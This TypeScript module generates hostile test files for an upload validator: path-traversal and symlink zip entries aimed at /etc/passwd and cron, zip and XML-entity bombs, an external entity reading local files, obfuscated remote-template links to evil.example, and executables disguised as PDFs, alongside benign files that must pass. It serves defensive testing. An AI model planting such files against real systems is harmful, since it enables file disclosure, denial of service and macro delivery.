/**
 * Files that somebody would send to do harm: each is one lie away from a good one. Made here, so
 * that no scanner finds them in the repository.
 */
import { createHash } from "node:crypto";
import {
  DIRECTORY_AT,
  linkOf,
  MORE_TABLE_AT,
  ole,
  ROOT,
  TABLE_AT,
  WORD,
  type OleEntry,
} from "./ole.ts";
import {
  docx,
  DOCUMENT_PART,
  RELATIONS_PART,
  typed,
  TYPES_PART,
  zip,
  type ZipPart,
} from "./zip.ts";

export interface Hostile {
  what: string;
  name: string;
  bytes: Buffer;
}

const MB = 1024 * 1024;
const pdf = Buffer.from("%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n");
const zeros = Buffer.alloc(MB);
const relations = (target: string): Buffer =>
  docx({
    name: "word/_rels/settings.xml.rels",
    data: `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
  });

/**
 * Opens an element over and over, which a pattern that searches for its end takes seconds for; what
 * hardly shrinks makes up for what shrinks too well.
 */
const openings = (...names: string[]): ZipPart[] => [
  ...names.map((name) => ({ name, data: `<Relationships>${"<Relationship ".repeat(18_500)}` })),
  {
    name: "word/media/a.png",
    data: Array.from({ length: 60 * names.length }, (_, index) =>
      createHash("sha256").update(String(index)).digest("base64"),
    ).join(""),
    stored: true,
  },
];
/** Eleven kilobytes that three patterns took ten seconds for. */
export const busyDocx = (): Buffer =>
  docx(...openings("word/_rels/a.rels", "word/_rels/b.rels", "word/_rels/c.rels"));
const outside = (target: string): string =>
  `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="${target}"/></Relationships>`;

const notPdfs = (): [string, Buffer][] => [
  ["a Windows program", Buffer.from("MZ\u0090\u0000 program")],
  [
    "a program before a PDF's header",
    Buffer.concat([Buffer.from("MZ\u0090\u0000".padEnd(200, "\u0001")), pdf]),
  ],
  ["a Linux program", Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), pdf])],
  ["a shell script before a PDF's header", Buffer.concat([Buffer.from("#!/bin/sh\nexit\n"), pdf])],
  [
    "a page before a PDF's header",
    Buffer.concat([Buffer.from("<script>alert(1)</script>\n"), pdf]),
  ],
  ["a picture", Buffer.from("GIF89a")],
  ["a picture before a PDF's header", Buffer.concat([Buffer.from("GIF89a/*"), pdf])],
  ["a header past the first kilobyte", Buffer.concat([Buffer.alloc(1100, 32), pdf])],
  ["a header without a version", Buffer.from("%PDF-x")],
  ["half a header", Buffer.from("%PD")],
  ["one byte", Buffer.from("%")],
  ["zeros", Buffer.alloc(4096)],
  ["a zip archive", docx()],
  ["a PDF that is a zip archive too", Buffer.concat([pdf, docx()])],
  [
    "a PDF with an archive and a comment behind it",
    Buffer.concat([
      pdf,
      zip([{ name: "Main.class", data: "x" }]).subarray(0, -2),
      Buffer.from([4, 0, 1, 2, 3, 4]),
    ]),
  ],
  ["a web page", Buffer.from("<!doctype html><script>alert(1)</script>")],
  ["a Word document", ole()],
  [
    "a printer's job header that never ends",
    Buffer.concat([Buffer.from("\u001b%-12345X"), Buffer.from(" \r\n".repeat(400))]),
  ],
];

/** 300 kB of relations that hardly shrink. */
const noise = Array.from(
  { length: 3000 },
  (_, index) =>
    `<Relationship Id="${createHash("sha256").update(String(index)).digest("hex")}" Target="a"/>`,
).join("");

const notDocx = (): [string, Buffer][] => [
  ["a plain archive", zip([{ name: "readme.txt", data: "hello" }])],
  ["an empty archive", zip([])],
  [
    "content types of a workbook",
    typed((types) => types.replace("wordprocessingml.document", "spreadsheetml.sheet")),
  ],
  [
    "content types of a macro document",
    typed((types) =>
      types.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        "vnd.ms-word.document.macroEnabled.main",
      ),
    ),
  ],
  [
    "content types with both",
    typed((types) =>
      types.replace(
        "</Types>",
        '<Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      ),
    ),
  ],
  ["a macro project", docx({ name: "word/vbaProject.bin", data: "x" })],
  ["a macro project in capitals", docx({ name: "WORD/VBAPROJECT.BIN", data: "x" })],
  ["a macro project by another way", docx({ name: "other/vbaProject.bin", data: "x" })],
  ["ActiveX", docx({ name: "word/activeX/activeX1.bin", data: "x" })],
  ["a program within", docx({ name: "word/embeddings/invoice.exe", data: "MZ" })],
  ["a shortcut within", docx({ name: "word/embeddings/open.lnk", data: "L" })],
  ["a script within", docx({ name: "word/media/logo.js", data: "WScript" })],
  ["a way out", docx({ name: "../../etc/cron.d/x", data: "x" })],
  ["a way out in the middle", docx({ name: "word/../../x", data: "x" })],
  ["a way out by backslashes", docx({ name: "..\\..\\x", data: "x" })],
  ["a path from the root", docx({ name: "/etc/passwd", data: "x" })],
  ["a path from a drive", docx({ name: "C:/windows/x", data: "x" })],
  ["a symbolic link", docx({ name: "word/link.xml", data: "/etc/passwd", mode: 0o120777 })],
  [
    "2,001 entries",
    docx(
      ...Array.from({ length: 1998 }, (_, index) => ({
        name: `word/${index}.xml`,
        data: "",
        stored: true,
      })),
    ),
  ],
  ["65,000 entries, by its own word", zip([TYPES_PART, DOCUMENT_PART], { count: 65_000 })],
  [
    "101 MB, honestly",
    docx(
      ...Array.from({ length: 101 }, (_, index) => ({
        name: `word/media/${index}.bin`,
        data: zeros,
      })),
    ),
  ],
  ["4 GB, by its own word", docx({ name: "word/big.xml", data: "x", size: 0xfffffff0 })],
  ["200 times inflated", docx({ name: "word/media/a.bin", data: zeros })],
  ["more than it promises", docx({ name: "word/media/a.bin", data: zeros, size: 100 })],
  ["less than it promises", docx({ name: "word/media/a.bin", data: "x".repeat(10), size: 1000 })],
  [
    "entries that share bytes",
    docx(
      ...Array.from({ length: 50 }, (_, index) => ({
        name: `word/${index}.xml`,
        data: "x".repeat(100),
        offset: 0,
      })),
    ),
  ],
  ["an entry past the end", docx({ name: "word/a.xml", data: "x", offset: 0x7fffffff })],
  ["a directory past the end", zip([TYPES_PART, DOCUMENT_PART], { directoryOffset: 0x7ffffff0 })],
  ["a directory at the beginning", zip([TYPES_PART, DOCUMENT_PART], { directoryOffset: 0 })],
  ["the same name twice", docx(DOCUMENT_PART)],
  ["the same name in two cases", docx({ ...DOCUMENT_PART, name: "Word/Document.XML" })],
  ["an encrypted entry", docx({ name: "word/a.xml", data: "x", flags: 0x0801 })],
  ["a way of packing nobody has", docx({ name: "word/a.xml", data: "x", method: 99 })],
  [
    "broken deflate",
    docx({
      name: "word/a.xml",
      data: Buffer.from([0xff, 0xff, 0xff]),
      stored: true,
      method: 8,
      size: 100,
    }),
  ],
  [
    "entities that grow",
    docx({
      name: "word/styles.xml",
      data: '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
    }),
  ],
  [
    "entities in its content types",
    typed((types) =>
      types.replace("<Types", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><Types'),
    ),
  ],
  ["a template from elsewhere", relations("https://evil.example/macro.dotm")],
  [
    "a template from elsewhere, its address written in entities",
    docx({
      name: "word/_rels/settings.xml.rels",
      data: outside("&#104;ttps://evil.example/macro.dotm"),
    }),
  ],
  [
    "a template from elsewhere, in UTF-16",
    docx({
      name: "word/_rels/settings.xml.rels",
      data: Buffer.from(`\ufeff${outside("https://evil.example/macro.dotm")}`, "utf16le"),
    }),
  ],
  [
    "a template from elsewhere, past the first 256 kB",
    docx({
      name: "word/_rels/settings.xml.rels",
      data: `<Relationships>${noise}${outside("https://evil.example/macro.dotm").slice(15)}`,
    }),
  ],
  ["a part that opens an element 18,500 times", docx(...openings("word/_rels/a.rels"))],
  ["three of them", busyDocx()],
  [
    "an encoding that no package may have",
    docx({ name: "word/styles.xml", data: '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
  ],
  [
    "entities that grow, in UTF-16",
    docx({
      name: "word/styles.xml",
      data: Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>', "utf16le"),
    }),
  ],
  [
    "5 MB of relations",
    docx({ name: "word/_rels/a.rels", data: `<Relationships>${noise.repeat(17)}</Relationships>` }),
  ],
  ["something after its end", Buffer.concat([docx(), Buffer.from("MZ program")])],
  [
    "something before its beginning",
    zip([TYPES_PART, RELATIONS_PART, DOCUMENT_PART], { before: Buffer.from("MZ program") }),
  ],
  ["its second half missing", docx().subarray(0, 300)],
  ["nothing but the mark", Buffer.from("PK\u0003\u0004")],
  ["a PDF", pdf],
];

const BOOK: OleEntry = { name: "Workbook", kind: 2, start: 2, size: 4096 };
const many = Array.from({ length: 5000 }, (_, index) =>
  index === 0 ? ROOT : { name: `s${index}`, kind: 2 },
);

const notDocs = (): [string, Buffer][] => [
  ["a workbook", ole({ entries: [ROOT, BOOK] })],
  [
    "a workbook with a document inside",
    ole({ entries: [ROOT, { ...BOOK, right: 2 }, { name: "MBD001", kind: 1, child: 3 }, WORD] }),
  ],
  ["a storage named as the stream", ole({ entries: [ROOT, { ...WORD, kind: 1 }] })],
  ["macros", ole({ entries: [ROOT, { ...WORD, right: 2 }, { name: "Macros", kind: 1 }] })],
  [
    "macros that no sibling names",
    ole({ entries: [ROOT, WORD, { name: "_VBA_PROJECT", kind: 2 }] }),
  ],
  ["no root", ole({ entries: [] })],
  [
    "siblings in a circle",
    ole({
      entries: [ROOT, { ...BOOK, left: 1, right: 2 }, { ...BOOK, name: "b", left: 1, right: 0 }],
    }),
  ],
  ["a directory in a circle", ole({ entries: [ROOT, BOOK], poke: { [linkOf(1)]: 1 } })],
  ["a directory past the end", ole({ poke: { [DIRECTORY_AT]: 0x00ffffff } })],
  ["a directory that links past the end", ole({ poke: { [linkOf(1)]: 0x0fffffff } })],
  ["a table past the end", ole({ poke: { [TABLE_AT]: 0x00ffffff } })],
  ["a table's chain in a circle", ole({ poke: { [MORE_TABLE_AT]: 3, [512 * 5 - 4]: 3 } })],
  ["5,000 entries", ole({ entries: many })],
  ["sectors of 2^31 bytes", ole({ shift: 31 })],
  ["sectors of no size", ole({ shift: 0 })],
  ["text that is not Word's", ole({ ident: 0x1234 })],
  ["text past the end", ole({ entries: [ROOT, { ...WORD, start: 0x00ffffff }] })],
  ["a stream of no size", ole({ entries: [ROOT, { ...WORD, size: 0 }] })],
  ["its header alone", ole().subarray(0, 512)],
  ["half its header", ole().subarray(0, 40)],
  ["text that calls itself a document", Buffer.from("{\\rtf1 hello}")],
];

const named = (name: string, made: [string, Buffer][]): Hostile[] =>
  made.map(([what, bytes]) => ({ what: `${name}: ${what}`, name, bytes }));

export const hostileFiles = (): Hostile[] => [
  ...named("cv.pdf", notPdfs()),
  ...named("cv.docx", notDocx()),
  ...named("cv.doc", notDocs()),
  { what: "a program by its own name", name: "cv.exe", bytes: pdf },
  { what: "no ending", name: "cv", bytes: pdf },
];

/** What must be accepted, or the others prove nothing. */
export const goodFiles = (): (Hostile & { type: string })[] => [
  { what: "a PDF", name: "cv.pdf", bytes: pdf, type: "application/pdf" },
  {
    what: "a PDF behind white space",
    name: "CV.PDF",
    bytes: Buffer.concat([Buffer.from("\ufeff\r\n"), pdf]),
    type: "application/pdf",
  },
  {
    what: "an encrypted PDF",
    name: "cv.pdf",
    bytes: Buffer.concat([
      pdf,
      Buffer.alloc(300_000, 65),
      Buffer.from("trailer<</Encrypt 12 0 R>>"),
    ]),
    type: "application/pdf; encrypted=yes",
  },
  {
    what: "a PDF that runs something",
    name: "cv.pdf",
    bytes: Buffer.concat([pdf, Buffer.from("<</S/JavaScript/JS(app.alert(1))>>")]),
    type: "application/pdf; active=yes",
  },
  {
    what: "a Word document",
    name: "cv.docx",
    bytes: docx({ name: "word/media/photo.png", data: "x".repeat(5000), stored: true }),
    type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
  },
  {
    what: "a Word document on a template of its author's",
    name: "cv.docx",
    bytes: relations("file:///C:\\Templates\\Normal.dotx"),
    type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
  },
  { what: "an old Word document", name: "cv.doc", bytes: ole(), type: "application/msword" },
  {
    what: "an old Word document, encrypted",
    name: "cv.doc",
    bytes: ole({ flags: 0x0100 }),
    type: "application/msword; encrypted=yes",
  },
];
